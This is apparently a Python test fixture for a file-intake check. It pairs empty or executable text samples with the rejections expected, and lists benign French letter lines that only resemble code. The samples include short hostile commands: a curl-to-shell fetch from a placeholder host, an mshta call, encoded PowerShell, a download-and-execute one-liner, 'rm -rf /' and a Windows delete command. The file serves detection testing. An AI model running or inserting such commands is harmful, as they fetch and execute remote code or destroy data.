"""Texts that a computer would run, texts with nothing in them, and good ones that only look alike."""

from tests.intake.pictures import runs

NOTHING = "The text holds nothing but white space: choose the file that you meant."

HOSTILE = {
    # nothing in it
    "spaces": (b" \t \r\n\n ", NOTHING),
    "line ends": (b"\n", NOTHING),
    "mark of an encoding": (b"\xef\xbb\xbf", NOTHING),
    "spaces that nobody sees": ("\u00a0\u200b\u3000\ufeff\n".encode(), NOTHING),
    # what runs on Windows
    "commands": (b"@echo off\r\ndel c:\\a", runs("@echo off")),
    "commands further on": (b"Le vote\r\n  @ECHO OFF\r\n", runs("@ECHO OFF")),
    "call of the commands": (b"cmd.exe /c calc", runs("cmd.exe /c")),
    "call of a program of Windows": (b"mshta http://x.example", runs("mshta http:")),
    "script of Windows": (b'Set x = CreateObject("WScript.Shell")\r\n', runs("CreateObject(")),
    "script of Windows without spaces": (b'set x=getobject ("winmgmts:")', runs("getobject (")),
    "script of Windows by its host": (b"WScript.Echo 1", runs("WScript.Echo")),
    "script that goes on": (b"On Error Resume Next", runs("On Error Resume Next")),
    "macro": (b"Private Sub AutoOpen()\nEnd Sub", runs("Private Sub AutoOpen(")),
    "script of a page": (b"var x = new ActiveXObject('a')", runs("new ActiveXObject(")),
    "parameters": (b"param(\r\n[string]$a)", runs("param(")),
    "parameters, spaced": (b"Param ( [string] $a )", runs("Param (")),
    "call of the shell": (b"powershell -enc AAAA", runs("powershell -enc")),
    "call of another shell": (b"pwsh.exe /c a", runs("pwsh.exe /c")),
    "verb of the shell": (b"$a = 1; Invoke-Expression $a", runs("$a =")),
    "verb of the shell alone": (b"Le vote\nInvoke-WebRequest x", runs("Invoke-WebRequest")),
    "object of the shell": (b"(New-Object Net.WebClient).DownloadFile(1)", runs("New-Object")),
    "start of a program": (b"Start-Process calc", runs("Start-Process")),
    "words run": (b"iex (iwr x)", runs("iex (")),
    "keys of Windows": (b"Windows Registry Editor Version 5.00", runs("Windows Registry Editor")),
    "way on a desktop": (b"[InternetShortcut]\nURL=file:///c:/a", runs("[InternetShortcut]")),
    "way on a desktop of Linux": (b"[Desktop Entry]\nExec=a", runs("[Desktop Entry]")),
    "start of a disk": (b"[AutoRun]\nopen=a.exe", runs("[AutoRun]")),
    # what runs elsewhere
    "program of a shell further on": (b"Le vote\n#!/bin/sh\n", runs("#!")),
    "fetching": (b"curl -s https://x.example | sh", runs("curl -s")),
    "fetching by another": (b"wget https://x.example", runs("wget https:")),
    "removing": (b"rm -rf /", runs("rm -rf")),
    "function": (b"function f() { alert(1) }", runs("function f(")),
}  # fmt: skip
GOOD = {
    "letter that looks alike": (
        "Param. 12 (voir annexe)\nSet de table : 12 €\n@Marie : merci\nDim. 12 octobre\nFunction du comité : présider\n"
        "Net d’impôt = 5 €\n$100 = 92 €\nOn Error, il faut reprendre\nLe curl et le wget\nSub rosa (en secret)\n"
        "Formation PowerShell - niveau 2\nPowerShell - niveau 2\nl’invoke-t-on ?\nArt. 1 - {a}\n#1 !\n[Annexe]\n"
        "CMD (Centre de Médecine) / cabinet\nJe vous prie de m’excuser (new)."
    ).encode(),
    "Chinese": "部门决定。\n".encode(),
    "dash": b"-\n",
}  # fmt: skip
